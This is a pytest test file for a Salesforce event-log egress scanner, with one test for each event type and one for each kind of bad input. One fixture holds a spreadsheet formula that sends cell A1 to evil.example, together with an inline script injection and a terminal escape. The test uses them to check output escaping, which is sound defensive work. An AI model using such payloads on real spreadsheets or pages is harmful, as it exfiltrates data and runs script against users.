"""`apexscan evidence`: Event Monitoring logs read by header name, checked against the inventory.

The sample (samples/fintech-org-logs, written by benchmarks/gen_event_logs.py) is compared exactly
with a golden report; each event type and each kind of bad input has its own test on small files.
"""
from __future__ import annotations

import gzip
import json
import sys
from datetime import date, timedelta
from importlib.resources import files
from pathlib import Path

import duckdb
import jsonschema
import pytest
from click.testing import CliRunner

from apexscan.interfaces.cli import main
from apexscan.interfaces.report.evidence import evidence_section, render_evidence_text
from apexscan.pipeline.event_log_files import MAX_LINE, _connect, discover_logs, read_logs
from apexscan.pipeline.evidence import anomalies, build_evidence
from apexscan.salesforce.event_logs import load_event_types
from apexscan.salesforce.policy import Policy
from apexscan.salesforce.sensitivity import FieldCatalog

ROOT = Path(__file__).resolve().parents[1]
SAMPLE_LOGS = ROOT / "samples" / "fintech-org-logs"
SAMPLE_ORG = ROOT / "samples" / "fintech-org"
GOLDEN = ROOT / "tests" / "data" / "evidence"
TYPES = load_event_types()
SCHEMA = json.loads(files("apexscan.interfaces.report").joinpath("evidence.schema.json").read_text("utf-8"))


def csv_text(header: list[str], rows: list[dict]) -> str:
    def line(values):
        return ",".join('"' + str(v).replace('"', '""') + '"' for v in values) + "\n"
    return line(header) + "".join(line([r.get(c, "") for c in header]) for r in rows)


def write(folder: Path, name: str, header: list[str], rows: list[dict]) -> Path:
    path = folder / name
    data = csv_text(header, rows).encode("utf-8")
    path.write_bytes(gzip.compress(data) if name.endswith(".gz") else data)
    return path


def evidence(paths, policy: Policy = Policy()) -> dict:
    found, skipped, problems = discover_logs([Path(p) for p in paths], TYPES)
    tables = read_logs(found, TYPES)
    doc = build_evidence(tables, skipped, problems, None, FieldCatalog.build(), policy, TYPES, project="",
                         generator="apexscan test")
    jsonschema.Draft202012Validator(SCHEMA).validate(doc)
    return doc


def messages(doc: dict) -> list[str]:
    return [f"{Path(d['path']).name}: {d['message']}" for d in doc["diagnostics"]]


CALLOUT = ["EVENT_TYPE", "TIMESTAMP", "TIMESTAMP_DERIVED", "USER_ID", "METHOD", "SUCCESS", "REQUEST_SIZE",
           "RESPONSE_SIZE", "URL"]


def callout(day: int, url: str, size: int = 100, **extra) -> dict:
    t = f"2025-03-{3 + day:02d}T10:00:00.000Z"
    return {"EVENT_TYPE": "ApexCallout", "TIMESTAMP_DERIVED": t, "USER_ID": "0055g00000A1dv1", "METHOD": "POST",
            "SUCCESS": "1", "REQUEST_SIZE": str(size), "RESPONSE_SIZE": "10", "URL": url, **extra}


# --- the sample -------------------------------------------------------------------------------------


def run_cli(*args: str) -> tuple[int, str, str]:
    result = CliRunner().invoke(main, list(args), catch_exceptions=False)
    return result.exit_code, result.stdout, result.stderr


@pytest.mark.parametrize("fmt, golden", [("json", "fintech-org.json"), ("text", "fintech-org.txt")])
def test_the_sample_report_matches_exactly(fmt, golden, monkeypatch):
    monkeypatch.chdir(ROOT)  # file paths in the report are as given on the command line
    code, out, _ = run_cli("evidence", "samples/fintech-org-logs", "--project", "samples/fintech-org",
                           "--format", fmt, "--no-cache")
    assert code == 1  # the sample has error-level findings on purpose
    assert out == (GOLDEN / golden).read_text(encoding="utf-8")


def test_the_sample_shows_every_case_it_was_made_for():
    doc = json.loads((GOLDEN / "fintech-org.json").read_text(encoding="utf-8"))
    jsonschema.Draft202012Validator(SCHEMA).validate(doc)
    rules = {(f["rule"], f["subject"]) for f in doc["findings"]}
    assert ("APX-RUN-002", "api.deepseek.com") in rules  # drift: a host no code explains
    assert ("APX-RUN-003", "api.anthropic.com") in rules  # a dormant static channel
    assert ("APX-RUN-005", "app:0H45g000000RcCp") in rules  # an out-of-range client IP
    assert ("APX-RUN-006", "app:0H45g000000RcCp 2025-03-14") in rules  # the bulk-export spike
    assert ("APX-RUN-006", "api.openai.com 2025-03-13") in rules  # the LLM callout spike
    assert ("APX-RUN-004", "app:0H45g000000MkSy") in rules  # a Connected App not in the project
    assert any(r == "APX-RUN-007" for r, _ in rules)  # exports of sensitive objects
    claude = next(d for d in doc["destinations"] if d["target"] == "callout:Claude_Prod")
    assert claude["explained_by"] == ["apex-callout:AnthropicMessagesClient.createMessage:Http.send"]
    copilot = next(c for c in doc["clients"] if c["app_name"] == "Research_Copilot")
    assert [i["ip"] for i in copilot["untrusted_ips"]] == ["185.220.101.33"]
    assert copilot["in_project"] is True and copilot["ip_relaxation"] == "BYPASS"


def test_the_sample_is_what_the_seeded_generator_writes(tmp_path):
    sys.path.insert(0, str(ROOT / "benchmarks"))
    try:
        import gen_event_logs
    finally:
        sys.path.pop(0)
    gen_event_logs.generate(tmp_path)
    names = sorted(p.name for p in SAMPLE_LOGS.glob("*.csv"))
    assert names == sorted(p.name for p in tmp_path.glob("*.csv"))
    for name in names:
        assert (tmp_path / name).read_bytes() == (SAMPLE_LOGS / name).read_bytes(), name


def test_html_section_sits_in_the_inventory_page_self_contained(tmp_path):
    out = tmp_path / "inventory.html"
    code, _, _ = run_cli("evidence", str(SAMPLE_LOGS), "--project", str(SAMPLE_ORG), "--format", "html",
                         "-o", str(out), "--fail-on", "never", "--no-cache")
    assert code == 0
    html = out.read_text(encoding="utf-8")
    assert html.count('<section class="ev" id="evidence">') == 1 and "Egress inventory" in html
    assert 'src="http' not in html and "@import" not in html
    assert html.count("<script") == 1 and "<script>(function(){" in html  # the inventory's own filters, inline
    assert '<a href="#evidence">Runtime evidence</a>' in html  # listed in the page's contents
    assert '<rect class="hot"' in html  # the spike days are marked on the timelines


# --- one test per event type ------------------------------------------------------------------------


def test_apex_callouts_are_grouped_by_host_and_by_named_credential(tmp_path):
    write(tmp_path, "a.csv", CALLOUT, [callout(0, "https://API.OpenAI.com/v1/chat/completions?key=s3cret", 200),
                                       callout(1, "https://user:pw@api.openai.com:443/v1/responses", 300),
                                       callout(1, "callout:Mistral_EU/v1/chat/completions", 50),
                                       callout(2, "https://api.openai.com/v1/chat/completions", 1, SUCCESS="0")])
    doc = evidence([tmp_path])
    openai = next(d for d in doc["destinations"] if d["target"] == "api.openai.com")
    assert (openai["calls"], openai["request_bytes"], openai["failures"]) == (3, 501, 1)
    assert openai["provider"] == "OpenAI" and openai["verdict"] == "foreign"
    assert "s3cret" not in json.dumps(doc) and "pw@" not in json.dumps(doc)
    assert [t["calls"] for t in openai["timeline"]] == [1, 1, 1]
    mistral = next(d for d in doc["destinations"] if d["target"] == "callout:Mistral_EU")
    assert mistral["named_credential"] == "Mistral_EU" and mistral["verdict"] == "unknown"
    assert {f["rule"] for f in doc["findings"]} == {"APX-RUN-001"}  # no project: no drift rules
    assert doc["drift"]["checked"] is False


def test_agent_columns_of_newer_releases_count_agent_calls(tmp_path):
    write(tmp_path, "a.csv", CALLOUT + ["BOT_IDENTIFIER", "PLANNER_IDENTIFIER"],
          [callout(0, "https://api.openai.com/v1/chat/completions", BOT_IDENTIFIER="0Xx1"),
           callout(0, "https://api.openai.com/v1/chat/completions")])
    assert evidence([tmp_path])["destinations"][0]["agent_calls"] == 1


REST = ["EVENT_TYPE", "TIMESTAMP_DERIVED", "USER_ID", "CONNECTED_APP_ID", "CLIENT_IP", "CLIENT_NAME", "METHOD",
        "ENTITY_NAME", "ROWS_PROCESSED", "RESPONSE_SIZE"]


def rest(day: int, app: str, ip: str, rows: int, method: str = "GET", entity: str = "Contact") -> dict:
    return {"EVENT_TYPE": "RestApi", "TIMESTAMP_DERIVED": f"2025-03-{3 + day:02d}T10:00:00.000Z",
            "USER_ID": "0055g00000RcCop", "CONNECTED_APP_ID": app, "CLIENT_IP": ip, "METHOD": method,
            "ENTITY_NAME": entity, "ROWS_PROCESSED": str(rows), "RESPONSE_SIZE": str(rows * 10)}


def test_rest_api_reads_per_connected_app_named_by_api_total_usage(tmp_path):
    write(tmp_path, "rest.csv", REST, [rest(0, "0H4A", "203.0.113.5", 100), rest(0, "0H4A", "185.220.101.33", 50),
                                       rest(0, "0H4A", "203.0.113.5", 7, method="POST")])
    write(tmp_path, "usage.csv", ["EVENT_TYPE", "TIMESTAMP_DERIVED", "CONNECTED_APP_ID", "CONNECTED_APP_NAME",
                                  "USER_ID", "API_CLIENT_CATEGORY"],
          [{"EVENT_TYPE": "ApiTotalUsage", "TIMESTAMP_DERIVED": "2025-03-03T10:00:00.000Z", "CONNECTED_APP_ID": "0H4A",
            "CONNECTED_APP_NAME": "Research_Copilot", "USER_ID": "0055g00000RcCop",
            "API_CLIENT_CATEGORY": "EXTERNAL_APPLICATION"}])
    policy = Policy(trusted_networks=("198.51.100.0/24",), app_networks=(("Research_Copilot", ("203.0.113.0/24",)),))
    doc = evidence([tmp_path], policy)
    (client,) = doc["clients"]
    assert (client["app_name"], client["requests"], client["rows_read"], client["bytes_read"]) == \
        ("Research_Copilot", 3, 150, 1500)  # the POST is a request, not a read
    assert client["categories"] == ["EXTERNAL_APPLICATION"]
    assert [(i["ip"], i["trusted"]) for i in client["ips"]] == [("203.0.113.5", True), ("185.220.101.33", False)]
    assert [f["rule"] for f in doc["findings"]] == ["APX-RUN-005", "APX-RUN-007"]
    # without [networks] the networks are not judged
    assert evidence([tmp_path])["clients"][0]["ips"][0]["trusted"] is None


def test_soap_api_clients_are_known_by_client_name_and_user(tmp_path):
    write(tmp_path, "api.csv", ["EVENT_TYPE", "TIMESTAMP", "USER_ID", "CLIENT_NAME", "METHOD_NAME", "ENTITY_NAME",
                                "ROWS_PROCESSED", "RESPONSE_SIZE", "CLIENT_IP"],
          [{"EVENT_TYPE": "API", "TIMESTAMP": "20250303010203.004", "USER_ID": "005DL", "CLIENT_NAME": "DataLoader",
            "METHOD_NAME": "query", "ENTITY_NAME": "Portfolio__c", "ROWS_PROCESSED": "900", "RESPONSE_SIZE": "9000",
            "CLIENT_IP": "198.51.100.5"},
           {"EVENT_TYPE": "API", "TIMESTAMP": "20250303010205.004", "USER_ID": "005DL", "CLIENT_NAME": "DataLoader",
            "METHOD_NAME": "describeSObjects", "ROWS_PROCESSED": "0", "CLIENT_IP": "198.51.100.5"}])
    write(tmp_path, "login.csv", ["EVENT_TYPE", "TIMESTAMP", "USER_ID", "USER_NAME"],
          [{"EVENT_TYPE": "Login", "TIMESTAMP": "20250303000000.000", "USER_ID": "005DL",
            "USER_NAME": "dataloader@bank.eu"}])
    (client,) = evidence([tmp_path])["clients"]
    assert (client["client_name"], client["user_name"], client["requests"], client["rows_read"]) == \
        ("DataLoader", "dataloader@bank.eu", 2, 900)
    assert client["first_seen"] == "2025-03-03T01:02:03.004Z"  # the compact TIMESTAMP, when alone


BULK2 = ["EVENT_TYPE", "TIMESTAMP_DERIVED", "USER_ID", "CLIENT_IP", "JOB_ID", "JOB_STATUS", "OPERATION_TYPE",
         "ENTITY_TYPE", "RECORDS_PROCESSED", "RESULT_SIZE_MB"]


def bulk2(day: int, job: str, status: str, records: int, user: str = "005COP") -> dict:
    return {"EVENT_TYPE": "BulkApi2", "TIMESTAMP_DERIVED": f"2025-03-{3 + day:02d}T02:00:00.000Z", "USER_ID": user,
            "CLIENT_IP": "203.0.113.10", "JOB_ID": job, "JOB_STATUS": status, "OPERATION_TYPE": "Query",
            "ENTITY_TYPE": "Contact", "RECORDS_PROCESSED": str(records), "RESULT_SIZE_MB": "0.5" if records else "0"}


def test_bulk_api_2_jobs_count_once_with_their_largest_row_count_and_spikes_are_found(tmp_path):
    rows = []
    for day in range(10):
        n = 250_000 if day == 8 else 2000 + day
        rows += [bulk2(day, f"750J{day}", "InProgress", 0), bulk2(day, f"750J{day}", "JobComplete", n)]
    write(tmp_path, "bulk.csv", BULK2, rows)
    (client,) = evidence([tmp_path])["clients"]
    assert client["requests"] == 10 and client["rows_read"] == sum(2000 + d for d in range(10) if d != 8) + 250_000
    assert client["bytes_read"] == 10 * 524288
    assert [a["day"] for a in client["anomalies"]] == ["2025-03-11"]


def test_bulk_api_rows_of_an_apps_integration_user_are_the_apps(tmp_path):
    write(tmp_path, "rest.csv", REST, [rest(0, "0H4A", "203.0.113.5", 10)])
    write(tmp_path, "bulk.csv", ["EVENT_TYPE", "TIMESTAMP_DERIVED", "USER_ID", "CLIENT_IP", "JOB_ID", "BATCH_ID",
                                 "OPERATION_TYPE", "ENTITY_TYPE", "ROWS_PROCESSED"],
          [{"EVENT_TYPE": "BulkApi", "TIMESTAMP_DERIVED": "2025-03-03T02:00:00.000Z", "USER_ID": "0055g00000RcCop",
            "CLIENT_IP": "203.0.113.5", "JOB_ID": "750A", "BATCH_ID": f"751{i}", "OPERATION_TYPE": "query",
            "ENTITY_TYPE": "Account", "ROWS_PROCESSED": "1000"} for i in range(3)])
    (client,) = evidence([tmp_path])["clients"]
    assert client["app_id"] == "0H4A" and client["rows_read"] == 3010  # BulkApi batches add up
    assert client["families"] == {"Bulk": 3, "REST": 1}
    assert client["users"] == [{"id": "0055g00000RcCop", "name": "", "attributed_by_user": True}]


def test_reports_and_report_exports(tmp_path):
    base = {"TIMESTAMP_DERIVED": "2025-03-03T17:00:00.000Z", "USER_ID": "005KEL", "CLIENT_IP": "198.51.100.5"}
    write(tmp_path, "report.csv", ["EVENT_TYPE", "TIMESTAMP_DERIVED", "USER_ID", "CLIENT_IP", "ENTITY_NAME",
                                   "ROW_COUNT", "AVERAGE_ROW_SIZE"],
          [{**base, "EVENT_TYPE": "Report", "ENTITY_NAME": "Contact", "ROW_COUNT": "1800", "AVERAGE_ROW_SIZE": "400"}])
    write(tmp_path, "export.csv", ["EVENT_TYPE", "TIMESTAMP_DERIVED", "USER_ID", "CLIENT_IP", "REPORT_DESCRIPTION"],
          [{**base, "EVENT_TYPE": "ReportExport", "REPORT_DESCRIPTION": "All clients with e-mail"}])
    doc = evidence([tmp_path])
    (client,) = doc["clients"]
    assert client["rows_read"] == 1800 and client["bytes_read"] == 720_000
    assert {(e["entity"], e["object"], e["sensitivity"]) for e in client["entities"]} == \
        {("Contact", True, "sensitive"), ("All clients with e-mail", False, "unknown")}
    assert [f["rule"] for f in doc["findings"]] == ["APX-RUN-007"]


def test_anomaly_baseline_is_median_and_mad_from_the_first_active_day():
    th = TYPES.anomaly
    days = [date(2025, 3, 1) + timedelta(days=i) for i in range(14)]
    steady = [(d, 40 + (i % 3)) for i, d in enumerate(days)]
    assert anomalies(steady, th) == []
    spiked = [(d, 240 if i == 10 else v) for i, (d, v) in enumerate(steady)]
    (a,) = anomalies(spiked, th)
    assert (a["day"], a["value"], a["median"]) == ("2025-03-11", 240, 41)
    late = [(d, 0 if i < 6 else 12) for i, d in enumerate(days)]  # a host first called on day 6
    assert anomalies(late, th) == []
    short = [(d, 0 if i < 9 else 12 * (i - 8)) for i, d in enumerate(days)]  # 5 days: no baseline
    assert anomalies(short, th) == []


# --- bad input --------------------------------------------------------------------------------------


def test_a_file_that_is_not_an_event_log_is_reported_and_the_rest_read(tmp_path):
    write(tmp_path, "ok.csv", CALLOUT, [callout(0, "https://api.openai.com/v1/chat/completions")])
    (tmp_path / "contacts.csv").write_text('"Id","Email"\n"003A","a@b.eu"\n', encoding="utf-8")
    (tmp_path / "notes.txt").write_text("hello", encoding="utf-8")
    (tmp_path / "empty.csv").write_bytes(b"")
    doc = evidence([tmp_path])
    assert doc["destinations"][0]["calls"] == 1
    assert set(messages(doc)) >= {
        "contacts.csv: not an event log: no EVENT_TYPE column in the header (first columns: Id, Email)",
        "empty.csv: not an event log: the file is empty"}
    assert any("1 file(s) not read: not .csv or .csv.gz (notes.txt)" in m for m in messages(doc))
    assert doc["inputs"]["files_not_read"] == 2


def test_a_truncated_csv_keeps_its_complete_rows_and_reports_the_cut_line(tmp_path):
    path = write(tmp_path, "cut.csv", CALLOUT, [callout(0, "https://api.openai.com/v1/x")] * 3)
    path.write_bytes(path.read_bytes()[:-25])
    doc = evidence([tmp_path])
    assert doc["destinations"][0]["calls"] == 2
    assert messages(doc) == ["cut.csv: 1 row(s) not read: line 4 (unquoted value)"]
    assert doc["inputs"]["rows_not_read"] == 1


def test_a_corrupt_or_truncated_gzip_is_reported_and_the_other_files_read(tmp_path):
    good = write(tmp_path, "a.csv.gz", CALLOUT, [callout(0, "https://api.openai.com/v1/x")])
    rows = [callout(0, "https://api.openai.com/v1/x", size=i) for i in range(20000)]
    cut = write(tmp_path, "b.csv.gz", CALLOUT, rows)
    cut.write_bytes(cut.read_bytes()[: len(cut.read_bytes()) // 2])
    (tmp_path / "c.csv.gz").write_bytes(b'"EVENT_TYPE"\n"ApexCallout"\n')  # named .gz, plain text
    (tmp_path / "d.csv.gz").write_bytes(b"\x1f\x8b\x08\x00garbage")
    doc = evidence([tmp_path])
    assert doc["destinations"][0]["calls"] == 1 and good.exists()
    found = messages(doc)
    assert any(m.startswith("b.csv.gz: not read: ") and "GZIP" in m.upper() for m in found), found
    assert "c.csv.gz: not read: named .gz but not a gzip file" in found
    assert any(m.startswith("d.csv.gz: not read: corrupt or truncated gzip file") for m in found)
    assert {f["path"].rsplit("/", 1)[-1]: f["status"] for f in doc["inputs"]["files"]} == \
        {"a.csv.gz": "read", "b.csv.gz": "unreadable", "c.csv.gz": "skipped", "d.csv.gz": "skipped"}


def test_unknown_event_types_and_missing_columns_are_reported(tmp_path):
    write(tmp_path, "uri.csv", ["EVENT_TYPE", "TIMESTAMP", "URI"], [{"EVENT_TYPE": "URI", "URI": "/home"}])
    write(tmp_path, "nourl.csv", ["EVENT_TYPE", "TIMESTAMP_DERIVED", "METHOD"],
          [{"EVENT_TYPE": "ApexCallout", "TIMESTAMP_DERIVED": "2025-03-03T00:00:00Z", "METHOD": "GET"}])
    write(tmp_path, "notime.csv", ["EVENT_TYPE", "URL"], [{"EVENT_TYPE": "ApexCallout", "URL": "https://x.eu"}])
    write(tmp_path, "nosize.csv", ["EVENT_TYPE", "TIMESTAMP_DERIVED", "URL"],
          [{"EVENT_TYPE": "ApexCallout", "TIMESTAMP_DERIVED": "2025-03-03T00:00:00Z", "URL": "https://x.eu/a"}])
    doc = evidence([tmp_path])
    assert sorted(messages(doc)) == [
        "notime.csv: ApexCallout file without the column(s) time (TIMESTAMP_DERIVED or TIMESTAMP); not read",
        "nourl.csv: ApexCallout file without the column(s) URL; not read",
        "uri.csv: event type 'URI' is not analysed by apexscan evidence; file not read"]
    (d,) = doc["destinations"]
    assert d["calls"] == 1 and d["bytes_complete"] is False  # no REQUEST_SIZE column: bytes unknown


def test_mixed_releases_with_other_column_orders_give_the_same_result(tmp_path):
    rows = [callout(i % 3, "https://api.openai.com/v1/x", size=10 + i) for i in range(9)]
    one, two = tmp_path / "one", tmp_path / "two"
    one.mkdir(), two.mkdir()
    write(one, "all.csv", CALLOUT, rows)
    write(two, "old.csv", CALLOUT, rows[:4])
    write(two, "new.csv", list(reversed(CALLOUT)) + ["STATUS_CODE"], rows[4:])
    a, b = evidence([one]), evidence([two])
    assert a["destinations"] == b["destinations"] and a["destinations"][0]["request_bytes"] == sum(range(10, 19))


def test_hostile_rows_are_bounded_rejected_and_escaped(tmp_path):
    injected = '=HYPERLINK("http://evil.example/?"&A1,"click")<script>alert(1)</script>\x1b[31m'
    write(tmp_path, "rest.csv", REST, [rest(0, "", "198.51.100.5", 5) | {"CLIENT_NAME": injected, "USER_ID": "005X"}])
    path = write(tmp_path, "calls.csv", CALLOUT, [callout(0, "https://api.openai.com/v1/x")])
    with open(path, "ab") as out:
        out.write(b'"ApexCallout","","2025-03-03T10:00:00.000Z","005","POST","1","1","1","https://x.eu/\xff\xfe"\n')
        out.write(b'"ApexCallout","","2025-03-03T10:00:00.000Z","005","POST","1","1","1","https://x.eu/'
                  + b"a" * (MAX_LINE + 10) + b'"\n')
        out.write(b'"ApexCallout","","2025-03-03T10:00:00.000Z","005","POST","1","1","1","https://ok.eu/"\n')
    doc = evidence([tmp_path])
    assert [d["target"] for d in doc["destinations"]] == ["api.openai.com", "ok.eu"]
    (problem,) = messages(doc)
    assert problem.startswith("calls.csv: 2 row(s) not read: lines 3 (invalid encoding), 4 (line size over maximum)")
    html = evidence_section(doc)
    assert "<script>" not in html and "&lt;script&gt;" in html and "\x1b" not in html
    text = render_evidence_text(doc)
    assert "\x1b" not in text and "\\x1b" in text


def test_duckdb_never_reaches_the_network_nor_other_files(tmp_path):
    log = write(tmp_path, "a.csv", CALLOUT, [callout(0, "https://x.eu")])
    (tmp_path / "secret.csv").write_text('"a"\n"b"\n', encoding="utf-8")
    con = _connect(tmp_path / "work", [log])
    try:
        settings = dict(con.execute("SELECT name, value FROM duckdb_settings() WHERE name IN "
                                    "('autoload_known_extensions', 'autoinstall_known_extensions', "
                                    "'enable_external_access', 'lock_configuration')").fetchall())
        assert settings == {"autoload_known_extensions": "false", "autoinstall_known_extensions": "false",
                            "enable_external_access": "false", "lock_configuration": "true"}
        assert con.execute("SELECT count(*) FROM read_csv($f)", {"f": str(log)}).fetchone() == (1,)
        for query in (f"SELECT * FROM read_csv('{tmp_path / 'secret.csv'}')",
                      "SELECT * FROM read_csv('https://example.invalid/x.csv')",
                      "INSTALL httpfs", "SET enable_external_access = true"):
            with pytest.raises(duckdb.Error) as caught:
                con.execute(query)
            assert "extensions.duckdb.org" not in str(caught.value)
    finally:
        con.close()


# --- command line -------------------------------------------------------------------------------------


def test_exit_codes(tmp_path):
    write(tmp_path, "a.csv", CALLOUT, [callout(0, "https://api.openai.com/v1/x")])
    assert run_cli("evidence", str(tmp_path))[0] == 1  # APX-RUN-001 is an error
    assert run_cli("evidence", str(tmp_path), "--fail-on", "never")[0] == 0
    code, _, err = run_cli("evidence", str(tmp_path / "missing"))
    assert code == 2 and "no such file or folder" in err
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "x.csv").write_text('"Id"\n"1"\n', encoding="utf-8")
    code, _, err = run_cli("evidence", str(tmp_path / "b"))
    assert code == 2 and "could be read" in err and "no EVENT_TYPE column" in err
    code, _, err = run_cli("evidence", str(tmp_path), "--format", "html")
    assert code == 2 and "--project" in err
